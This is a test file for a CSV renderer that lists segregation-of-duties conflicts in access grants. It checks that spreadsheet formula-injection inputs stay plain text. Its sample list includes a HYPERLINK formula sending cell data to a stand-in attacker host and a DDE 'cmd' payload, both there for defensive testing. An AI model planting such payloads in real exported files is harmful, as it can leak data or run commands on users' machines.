import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import type { Finding } from '../../src/book/problem.ts'
import { renderConflictsCsv } from '../../src/render/conflicts-csv.ts'
import { ACME } from '../checks/acme.ts'
import { BOTH, exception, file } from '../checks/cases/duties/book.ts'
import { cli } from '../commands/cli.ts'
import { Scratch } from '../io/git/scratch.ts'

/** Texts that a spreadsheet would take for formulas, or that get one past a look at the first character. */
const FORMULAS = [
  '=HYPERLINK("https://mallory.example/?x="&A1,"details")',
  '+1+cmd|"/c calc"!A0',
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '","=1+1',
  '"\r\n=1+1'
]

/** Rows of a table by RFC 4180. */
function rows(text: string): readonly (readonly string[])[] {
  const found: string[][] = [[]]
  for (const [, quoted, bare = '', end = ''] of text.matchAll(
    /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r?\n|$)/gu
  )) {
    found.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare)
    if (end !== ',' && end !== '') found.push([])
  }
  return found.filter((row) => row.length > 1)
}

const begins = /^[=+\-@\t\r＝＋－＠]/u

let repo: Scratch
beforeEach(() => {
  repo = new Scratch({ git: false })
})
afterEach(() => repo.remove())

// A carriage return in a title or reason is refused where it is read.
test.each(FORMULAS.filter((text) => text !== '\r=1+1'))(
  'a rule, an exception and a reason that say %j make no formula',
  async (text) => {
    const quoted = JSON.stringify(text)
    repo.write({
      ...ACME,
      ...BOTH,
      'grants/rules/payments.yaml': file(
        `title: ${quoted}`,
        'hold: [duty:payments.create, duty:payments.approve]',
        'atMost: 1'
      ),
      ...exception('interim', 'payments', 'alice', '2027-01-31'),
      'grants/exceptions/interim.yaml': file(
        'rule: payments',
        'subject: alice',
        `reason: ${JSON.stringify(`${text} and so on, and so on`)}`,
        `control: ${JSON.stringify(`${text} and so on, and so on`)}`,
        'expires: 2027-01-31'
      )
    })
    const { status, out, err } = await cli(['conflicts', '--root', repo.root, '--format', 'csv'])
    expect({ status, err }).toEqual({ status: 0, err: '' })
    const table = rows(out)
    expect(table.map((row) => row.length)).toEqual([8, 8])
    expect(table[1]?.slice(0, 5)).toEqual([
      'note',
      'duties-excepted',
      'grants/systems/aws-prod/create/alice.yaml',
      '1',
      '1'
    ])
    expect(table.flat().filter((cell) => begins.test(cell))).toEqual([])
  }
)

describe('whatever a finding says', () => {
  test.each(FORMULAS)('%j stays text in each cell', (text) => {
    const finding: Finding = {
      code: text,
      severity: 'error',
      message: text,
      fix: text,
      file: text,
      line: 1,
      column: 1,
      related: [{ file: text, line: 1, column: 1, message: text }]
    }
    const table = rows(renderConflictsCsv([finding]))
    expect(table.map((row) => row.length)).toEqual([8, 8])
    expect(table.flat().filter((cell) => begins.test(cell))).toEqual([])
    // Nothing is lost: without the apostrophe it is what it was, on one line.
    const [, , shown = ''] = table[1] ?? []
    expect(shown.replace(/^'/u, '')).toBe(
      text
        .replaceAll('\t', ' ')
        .replaceAll('\r', String.raw`\u{d}`)
        .replaceAll('\n', String.raw`\u{a}`)
    )
  })
})

test('numbers and words are left as they are', () => {
  const finding: Finding = {
    code: 'duties-conflict',
    severity: 'error',
    message: '"alice" would hold 2, a lot',
    fix: 'Drop it.',
    file: 'grants/a.yaml',
    line: 12,
    column: 3,
    related: []
  }
  expect(renderConflictsCsv([finding])).toBe(
    'severity,code,file,line,column,message,fix,related\nerror,duties-conflict,grants/a.yaml,12,3,"""alice"" would hold 2, a lot",Drop it.,\n'
  )
})
